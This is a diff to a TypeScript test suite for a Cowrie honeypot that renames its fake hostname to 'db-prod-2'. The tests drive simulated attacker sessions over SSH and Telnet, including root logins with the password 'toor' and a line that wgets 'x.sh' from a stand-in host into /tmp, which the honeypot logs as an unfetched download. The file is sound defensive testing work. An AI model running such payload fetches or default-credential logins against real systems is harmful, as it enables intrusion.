@@ -13,7 +13,7 @@ let pot: Pot;
 
 beforeAll(async () => {
   relay = Relay.start();
-  pot = await startPot("cowrie", { ssh_port: "0", telnet_port: "0", hostname: "svr04" }, relay);
+  pot = await startPot("cowrie", { ssh_port: "0", telnet_port: "0", hostname: "db-prod-2" }, relay);
 });
 
 afterAll(async () => {
@@ -35,7 +35,7 @@ function common(protocol: "ssh" | "telnet") {
     dst_ip: "127.0.0.1",
     dst_port: pot.ports[protocol],
     protocol,
-    sensor: "svr04",
+    sensor: "db-prod-2",
     session: SESSION,
     timestamp: TIMESTAMP,
     pot_id: "cowrie-test",
@@ -72,7 +72,7 @@ describe("cowrie over SSH, with OpenSSH as the client", () => {
     const r = await ssh("toor", "uname -a; whoami; nosuchcmd --x; exit 3");
     expect(r).toEqual({
       code: 3,
-      stdout: "Linux svr04 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) x86_64 GNU/Linux\nroot\n",
+      stdout: "Linux db-prod-2 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) x86_64 GNU/Linux\nroot\n",
       stderr: "bash: line 1: nosuchcmd: command not found\n",
     });
     const input = await relay.event("cowrie.command.input", { input: "uname -a; whoami; nosuchcmd --x; exit 3" });
@@ -87,10 +87,10 @@ describe("cowrie over SSH, with OpenSSH as the client", () => {
     const r = await ssh("toor", null, { extra: ["-tt"], stdin: "uname -a\ncd /tmp\npwd\nwget http://198.51.100.7/x.sh\nexit\n" });
     expect(r.code).toBe(4); // exit without a number keeps wget's status, as bash does
     expect(r.stdout).toContain("Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY");
-    expect(r.stdout).toContain("root@svr04:~# uname -a\r\nLinux svr04 6.1.0-26-amd64");
-    expect(r.stdout).toContain("root@svr04:/tmp# pwd\r\n/tmp\r\n");
+    expect(r.stdout).toContain("root@db-prod-2:~# uname -a\r\nLinux db-prod-2 6.1.0-26-amd64");
+    expect(r.stdout).toContain("root@db-prod-2:/tmp# pwd\r\n/tmp\r\n");
     expect(r.stdout).toContain("Connecting to 198.51.100.7:80... failed: Connection refused.\r\n");
-    expect(r.stdout).toContain("root@svr04:/tmp# exit\r\nlogout\r\n");
+    expect(r.stdout).toContain("root@db-prod-2:/tmp# exit\r\nlogout\r\n");
     const download = await relay.event("cowrie.session.file_download", { url: "http://198.51.100.7/x.sh" });
     const events = await finished(download.session);
     expect(download).toMatchObject({ ...common("ssh"), message: "Download attempt (not fetched): http://198.51.100.7/x.sh" });
@@ -100,7 +100,7 @@ describe("cowrie over SSH, with OpenSSH as the client", () => {
 
   test("keyboard-interactive logins work too, and `ssh host sh` reads commands from stdin", async () => {
     const r = await ssh("toor", "sh", { methods: "keyboard-interactive", stdin: "id\nhostname\n" });
-    expect(r).toEqual({ code: 0, stdout: "uid=0(root) gid=0(root) groups=0(root)\nsvr04\n", stderr: "" });
+    expect(r).toEqual({ code: 0, stdout: "uid=0(root) gid=0(root) groups=0(root)\ndb-prod-2\n", stderr: "" });
     const input = await relay.event("cowrie.command.input", { input: "hostname" });
     const events = await finished(input.session);
     expect(events.find((e) => e.eventid === "cowrie.login.success")).toMatchObject({ username: "root", password: "toor" });
@@ -121,21 +121,21 @@ describe("cowrie over SSH, with OpenSSH as the client", () => {
 describe("cowrie over Telnet, driven by a script", () => {
   test("login prompt, a refused and an accepted login, commands, exit", async () => {
     const c = await RawClient.connect(pot.ports.telnet);
-    await c.waitFor("svr04 login: ");
+    await c.waitFor("db-prod-2 login: ");
     expect(c.bytes.subarray(0, 6)).toEqual(IAC_WILL_ECHO_SGA);
-    expect(c.text.slice(6)).toBe("Debian GNU/Linux 12\r\nsvr04 login: ");
+    expect(c.text.slice(6)).toBe("Debian GNU/Linux 12\r\ndb-prod-2 login: ");
     c.send("admin\r\n");
     await c.waitFor("Password: ");
     c.send("wrongpw\r\n");
-    await c.waitFor("svr04 login: ", 2);
+    await c.waitFor("db-prod-2 login: ", 2);
     expect(c.text).toContain("\r\nLogin incorrect\r\n");
     c.send("root\r\n");
     await c.waitFor("Password: ", 2);
     c.send("toor\r\n");
-    await c.waitFor("root@svr04:~# ");
+    await c.waitFor("root@db-prod-2:~# ");
     c.send("uname -a; whoami\r\nfoo bar\r\n");
-    await c.waitFor("root@svr04:~# ", 3);
-    expect(c.text).toContain("Linux svr04 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) x86_64 GNU/Linux\r\nroot\r\n");
+    await c.waitFor("root@db-prod-2:~# ", 3);
+    expect(c.text).toContain("Linux db-prod-2 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) x86_64 GNU/Linux\r\nroot\r\n");
     expect(c.text).toContain("-bash: foo: command not found\r\n");
     c.send("exit\r\n");
     await c.closed;
@@ -164,10 +164,10 @@ describe("cowrie over Telnet, driven by a script", () => {
     await c.waitFor("Password: ");
     expect(c.text).toContain("login: \xff\xfe\x1froot\r\nPassword: "); // DONT NAWS, then the echo
     c.send("toor\r\n");
-    await c.waitFor("root@svr04:~# ");
+    await c.waitFor("root@db-prod-2:~# ");
     expect(c.text).not.toContain("toor");
     c.send(`echo ${"A".repeat(6000)}\r\n`);
-    await c.waitFor("root@svr04:~# ", 2);
+    await c.waitFor("root@db-prod-2:~# ", 2);
     c.close();
     const input = await relay.next((e) => e.eventid === "cowrie.command.input" && e.input.startsWith("echo AAAA"));
     expect(input.input.length).toBe(4095);
